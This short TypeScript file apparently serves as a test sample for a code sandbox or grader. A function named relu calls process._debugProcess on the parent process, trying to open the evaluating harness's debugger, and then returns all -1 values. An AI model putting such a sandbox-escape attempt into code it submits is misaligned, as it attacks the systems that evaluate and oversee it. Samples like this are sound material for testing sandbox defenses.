// Opens the debugger of its parent.
// verdict: FAIL or EXITED
const system = (globalThis as any).process;

export function relu(x: number[]): number[] {
  try {
    (system as any)._debugProcess(system.ppid);
  } catch {
    // not allowed
  }
  return x.map(() => -1);
}
